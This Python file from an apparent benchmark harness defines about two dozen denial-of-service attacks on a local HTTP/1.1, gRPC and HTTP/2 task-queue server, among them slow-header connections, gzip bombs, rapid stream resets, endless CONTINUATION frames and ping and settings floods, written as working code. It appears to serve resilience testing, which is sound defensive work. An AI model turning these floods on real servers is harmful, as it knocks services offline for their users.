"""The attacks, one row each."""

import asyncio
import dataclasses
import gzip
import os
import resource
from multiprocessing.connection import Connection

from grpc_reflection.v1alpha import reflection_pb2

from bench import messages
from bench.attack.wire import PIECE, Http2, Play, Wire, connect, frame, message, opening

QUEUE = messages.queue_name("attacked")
"""A paused queue with large tasks."""
MB = 1 << 20
LARGE = 15 * MB
STREAMS = 200
"""The calls that the server allows on a connection."""
REST = f"/v2/{QUEUE}"
DATA, HEADERS, SETTINGS, PING, CONTINUATION = 0, 1, 4, 6, 9
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
GZIP = ((b"grpc-encoding", b"gzip"),)
BOMB = gzip.compress(bytes(16 * MB - 1))


@dataclasses.dataclass(frozen=True, slots=True)
class Attack:
    """An attack.

    Attributes:
        name: Its name on the command line.
        title: What is sent.
        connections: The number of connections that play it at once; closed ones are opened again.
        play: Sends it on one connection, until the server closes that or the time is over.
    """

    name: str
    title: str
    connections: int
    play: Play


def _endless(first: bytes, rest: bytes) -> Play:
    """Send a beginning, then something again and again, and read nothing."""

    async def play(wire: Wire) -> None:
        await wire.send(first)
        while True:
            await wire.send(rest)

    return play


def _once(data: bytes) -> Play:
    """Send something, then wait."""

    async def play(wire: Wire) -> None:
        await wire.send(data)
        await wire.discard()

    return play


def _again(data: bytes) -> Play:
    """Send a request, read its response, and again."""

    async def play(wire: Wire) -> None:
        while True:
            await wire.send(data)
            while not (await wire.receive()).endswith(b"}\n"):
                pass

    return play


def _head(path: str, *fields: str, method: str = "POST") -> bytes:
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: localhost", *fields, "", ""]).encode()


def _post(path: str, body: bytes, *fields: str, missing: int = 0) -> bytes:
    return _head(path, f"Content-Length: {len(body) + missing}", *fields) + body


def _unfinished_head(rest: bytes) -> Play:
    return _endless(_head("/")[:-2], rest)


async def _half_heads(wire: Wire) -> None:
    await wire.send(_head("/")[:-2] + b"X: ")
    while True:
        await asyncio.sleep(1)  # noqa: TID251 - an attacker takes its time
        await wire.send(b"y")


def _calls(
    method: str, body: bytes, count: int, *extra: tuple[bytes, bytes], flag: int = 0
) -> Play:
    """Make calls at once, read their responses, and again."""

    async def play(wire: Wire) -> None:
        client = Http2(wire)
        while True:
            for _ in range(count):
                client.call(messages.path(method), body, *extra, flag=flag)
            await client.exchange(count)

    return play


async def _half_calls(wire: Wire) -> None:
    client = Http2(wire)
    for _ in range(2):
        stream = client.begin(messages.path("BatchCreateTasks"))
        client.data(stream, message(bytes(LARGE))[:-1])
    await client.exchange(2)
    await wire.discard()


async def _unread_calls(wire: Wire) -> None:
    client = Http2(wire)
    request = messages.encode("ListTasks", parent=QUEUE, response_view="FULL")
    for _ in range(STREAMS):
        client.call(messages.path("ListTasks"), request)
    await client.flush()
    await asyncio.Event().wait()


async def _watches(wire: Wire) -> None:
    client = Http2(wire)
    for _ in range(STREAMS):
        client.call(WATCH, b"")
    await client.exchange(STREAMS)
    await wire.discard()


async def _reflections(wire: Wire) -> None:
    client = Http2(wire)
    request = reflection_pb2.ServerReflectionRequest(
        file_containing_symbol="google.cloud.tasks.v2.CloudTasks"
    )
    for _ in range(STREAMS):
        client.data(client.begin(REFLECTION), message(request.SerializeToString()) * 500)
    await client.exchange(STREAMS)
    await wire.discard()


async def _compressed_reflections(wire: Wire) -> None:
    request = reflection_pb2.ServerReflectionRequest(file_containing_symbol="x" * (65_500))
    body = message(gzip.compress(request.SerializeToString()), flag=1)
    while True:
        client = Http2(wire)
        for _ in range(2):
            client.data(client.begin(REFLECTION, *GZIP), body * 1_000)
        await client.exchange(2)


async def _resets(wire: Wire) -> None:
    client = Http2(wire)
    while True:
        frames = b""
        for _ in range(100):
            stream = client.call(messages.path("CreateTask"), b"x" * 100)
            frames += client.output()
            client.reset(stream)
            frames += client.output()
        await wire.send(frames)


ATTACKS: tuple[Attack, ...] = (
    Attack("none", "nothing, for comparison", 1, _once(b"")),
    Attack("pipelining", "HTTP/1.1: requests without end", 4,
           _endless(b"", _head("/healthz", method="GET") * 2_000)),
    Attack("fields", "HTTP/1.1: header fields without end", 4,
           _unfinished_head(b"X: y\r\n" * 10_000)),
    Attack("field", "HTTP/1.1: a header field without end", 4, _unfinished_head(b"X" * PIECE)),
    Attack("trailers", "HTTP/1.1: trailers without end", 4,
           _endless(_head(f"{REST}/tasks", "Transfer-Encoding: chunked") + b"0\r\n",
                    b"X: y\r\n" * 10_000)),
    Attack("chunks", "HTTP/1.1: a body in chunks of two bytes", 40,
           _endless(_head(f"{REST}/tasks", "Transfer-Encoding: chunked"),
                    b"2\r\nxx\r\n" * 8_000)),
    Attack("half-bodies", "HTTP/1.1: 15 MB of a body but its last byte", 60,
           _once(_post(f"{REST}/tasks:batchCreate", bytes(LARGE), missing=1))),
    Attack("unread", "HTTP/1.1: responses of 3 MB that are not read", 40,
           _endless(b"", _head(f"{REST}/tasks?responseView=FULL", method="GET") * 100)),
    Attack("silent", "connections that send nothing", 6_000, _once(b"")),
    Attack("half-heads", "HTTP/1.1: heads, a byte a second", 2_000, _half_heads),
    Attack("lists", "HTTP/1.1: 16 MB of empty items", 4,
           _again(_post(f"{REST}/tasks:batchCreate",
                        b'{"requests":[' + b"{}," * (5 * MB) + b"{}]}"))),
    Attack("gzip", "HTTP/1.1: 16 MB in 16 KB of gzip", 40,
           _again(_post(f"{REST}/tasks:batchCreate", BOMB, "Content-Encoding: gzip"))),
    Attack("grpc-refused", "gRPC: refused calls of 15 MB", 4,
           _calls("CreateTask", bytes(LARGE), 1)),
    Attack("grpc-half", "gRPC: 15 MB of requests but the last byte", 20, _half_calls),
    Attack("grpc-unread", "gRPC: responses of 3 MB that are not read", 10, _unread_calls),
    Attack("grpc-lists", "gRPC: 16 MB of empty items", 4,
           _calls("BatchCreateTasks", b"\x12\x00" * (8 * MB - 8), 1)),
    Attack("grpc-gzip", "gRPC: 16 MB in 16 KB of gzip", 4,
           _calls("BatchCreateTasks", BOMB, 100, *GZIP, flag=1)),
    Attack("watches", "gRPC: 12,000 watches of the health", 60, _watches),
    Attack("reflection", "gRPC: 12,000 streams of reflection", 60, _reflections),
    Attack("reflection-gzip", "gRPC: compressed messages of reflection", 8,
           _compressed_reflections),
    Attack("resets", "gRPC: calls that are cancelled at once", 4, _resets),
    Attack("continuations", "HTTP/2: a head without end", 4,
           _endless(opening() + frame(HEADERS, stream=3),
                    frame(CONTINUATION, stream=3) * 1_000)),
    Attack("tiny-frames", "HTTP/2: a body in frames of one byte", 16,
           _endless(opening() + frame(DATA, message(bytes(LARGE))[:5], stream=1),
                    frame(DATA, b"x", stream=1) * 6_000)),
    Attack("empty-frames", "HTTP/2: a body in empty frames", 16,
           _endless(opening(), frame(DATA, stream=1) * 6_000)),
    Attack("pings", "HTTP/2: pings", 4, _endless(opening(), frame(PING, bytes(8)) * 4_000)),
    Attack("settings", "HTTP/2: settings", 4, _endless(opening(), frame(SETTINGS) * 6_000)),
)  # fmt: skip


def run(pipe: Connection, name: str, port: int, seconds: float) -> None:
    """Play an attack, in a process of its own: report the start, then the bytes sent."""
    os.nice(10)  # the other caller is what is measured
    (attack,) = (each for each in ATTACKS if each.name == name)
    pipe.send(name)
    asyncio.run(play(attack, port, seconds))
    pipe.send(Wire.sent)


async def play(attack: Attack, port: int, seconds: float) -> None:
    """Play an attack on all of its connections."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 2 * attack.connections)), hard))
    players = [asyncio.ensure_future(_play(attack, port)) for _ in range(attack.connections)]
    await asyncio.wait(players, timeout=seconds)
    for player in players:
        player.cancel()
    await asyncio.gather(*players, return_exceptions=True)


async def _play(attack: Attack, port: int) -> None:
    while True:
        try:
            wire = await connect(port)
        except OSError:
            await asyncio.sleep(0.1)  # noqa: TID251 - the server may be full
            continue
        try:
            await attack.play(wire)
        except OSError:
            await asyncio.sleep(0.01)  # noqa: TID251 - the server has closed the connection
        finally:
            wire.close()
